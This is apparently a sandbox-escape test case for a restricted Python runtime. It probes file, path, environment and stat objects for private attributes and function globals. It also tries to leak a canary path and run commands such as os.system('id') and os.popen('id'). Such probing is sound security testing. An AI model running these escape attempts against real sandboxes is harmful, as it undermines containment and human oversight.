# attack: reach the host objects behind open() files, pathlib paths, os.environ and os.stat results (slots, classes, globals, subclass hooks)
# os: yes
# runs: 1
import os, pathlib
f = open("/mnt/data.txt")
p = pathlib.Path("/mnt/data.txt")
st = os.stat("/mnt/data.txt")
found = []
for obj in (f, p, os.environ, st, open("/mnt/out.bin", "wb")):
    for name in ("_buf", "_io", "_p", "_local", "_path", "_write", "buffer", "raw", "fileno", "detach",
                 "_accessor", "_raw_paths", "__reduce__", "__reduce_ex__", "__getstate__", "_new", "_where"):
        try:
            found.append(getattr(obj, name))
        except AttributeError:
            pass
    for base in type(obj).__mro__:
        for name in ("__init__", "read", "flush", "open", "_new", "get", "__subclasshook__"):
            try:
                found.append(getattr(getattr(base, name), "__globals__"))
            except AttributeError:
                pass
class P(pathlib.Path):
    def grab(self):
        return self._p
class F(os.PathLike):
    def __fspath__(self):
        return canary_path
for label, fn in [("sub", lambda: P("/x").grab()), ("fspath", lambda: open(F()).read()),
                  ("fd", lambda: open(0).read()), ("opener", lambda: open("/mnt/data.txt", opener=print)),
                  ("plus", lambda: open("/mnt/data.txt", "r+")), ("os.open", lambda: os.open(canary_path, 0)),
                  ("system", lambda: os.system("id")), ("popen", lambda: os.popen("id")),
                  ("putenv", lambda: os.putenv("X", "1")), ("urandom", lambda: os.urandom(4)),
                  ("getpid", lambda: os.getpid()), ("chdir", lambda: os.chdir("/tmp")),
                  ("host-expand", lambda: os.path.expanduser("~")), ("host-real", lambda: os.path.realpath("."))]:
    try:
        found.append((label, fn()))
    except Exception as e:
        found.append((label, type(e).__name__))
print(found)
found
